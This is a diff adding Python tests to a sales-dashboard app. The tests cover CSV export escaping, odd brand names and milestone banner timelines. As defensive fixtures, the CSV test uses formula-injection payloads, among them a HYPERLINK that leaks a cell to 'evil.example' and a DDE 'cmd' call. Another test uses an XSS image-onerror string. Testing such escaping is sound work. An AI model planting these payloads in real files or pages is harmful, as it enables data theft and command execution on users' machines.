@@ -197,3 +197,57 @@ def test_explore_filters_list_the_contracts_values_without_a_query(tmp_path: Pat
     assert {"label": "pre-sale deposit", "value": "presale_deposit"} in promotion.options
     assert [o["value"] for o in find(page, "explore-wave").options] == ["presale", "wave1", "wave2", "other"]
     assert find(page, "explore-fig-presale_phase") is not None
+
+
+def test_csv_text_cells_that_start_like_a_formula_are_neutralised_and_numbers_never():
+    import csv
+    import io
+
+    hostile = {
+        "brand": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+        "category": "+cmd|' /C calc'!A0", "province": "-2+3", "channel": "@SUM(A1:A9)",
+        "promotion": "\t=1+1", "wave": "\r=1+1",
+    }
+    rows = [(DAY0, 3, 2, -129_00, 0, 5, 1, 0)]  # a negative amount, as no rollup holds, stays a number
+    parsed = list(csv.DictReader(io.StringIO(explore.to_csv(rows, hostile))))
+    assert len(parsed) == 1
+    row = parsed[0]
+    for dim, value in hostile.items():
+        assert row[dim] == "'" + value, dim  # shown as the text it is, never run
+    assert row["gmv_fen"] == "-12900" and row["gmv_yuan"] == "-129.00" and row["refund_fen"] == "5"
+    assert row["window_start_cst"] == "2021-11-11T00:00:00+08:00"
+
+
+def test_csv_odd_brand_names_are_kept_as_they_are():
+    import csv
+    import io
+
+    for brand in ("<img src=x onerror=alert(1)>", "花西子🌸", "Perfect Diary", "3CE", "a=b", "x-y"):
+        text = explore.to_csv([(DAY0, 1, 1, 12_345, 0, 0, 0, 0)], {"category": "beauty", "brand": brand})
+        header, row = list(csv.reader(io.StringIO(text)))
+        assert header[:3] == ["window_start_cst", "category", "brand"]
+        assert row[1:3] == ["beauty", brand] and row[5] == "12345" and row[-2] == "123.45"
+    assert explore.text_cell("=1") == "'=1" and explore.text_cell("1=1") == "1=1" and explore.text_cell("") == ""
+
+
+def test_milestones_banner_shows_the_newest_and_the_timeline_all_in_time_order():
+    from dash._utils import to_json
+
+    passed = [q.Passed(1_000_000_000, NOW - 30, 1_000_000_500, NOW - 28, 1_000, 5_000),  # moved 2 s earlier
+              q.Passed(10_000_000, DAY0 - 3_600, 10_000_100, DAY0 - 3_600, 500, 0),  # yesterday
+              q.Passed(100_000_000, NOW - 300, 100_004_000, NOW - 300, 800, 0)]
+    view = wall.milestones_view(passed, DAY0, now_ms=1_000 + 59_000)
+    assert view["banner"] == "¥1,000万 passed at 19:59:35 CST"
+    assert (view["second"], view["figure"]) == (str(NOW - 30), "1000000000")
+    assert view["banner_class"] == "milestone milestone-new"  # first recorded under a minute ago
+    assert "first recorded as 19:59:37, moved by a late correction" in view["title"]
+    assert wall.milestones_view(passed, DAY0, now_ms=1_000 + 60_000)["banner_class"] == "milestone"
+    items = view["timeline"]
+    assert [i.children[0].children for i in items] == ["¥10万", "¥100万", "¥1,000万"]
+    assert [i.children[1].children for i in items] == ["11-10 23:00:00", "19:55:05", "19:59:35"]
+    assert [i.className for i in items] == ["ms-item", "ms-item", "ms-item ms-moved"]
+    assert '"¥1,000万"' in to_json(view)  # what the payload callback sends: components as JSON
+    empty = wall.milestones_view([], DAY0, now_ms=0)
+    assert empty["banner"] == "" and empty["banner_class"] == "milestone milestone-none"
+    payload = wall.build_payload(_snapshot(written_ms=1_000_000), now_ms=1_003_000)
+    assert payload["milestones"]["banner"] == ""  # none passed
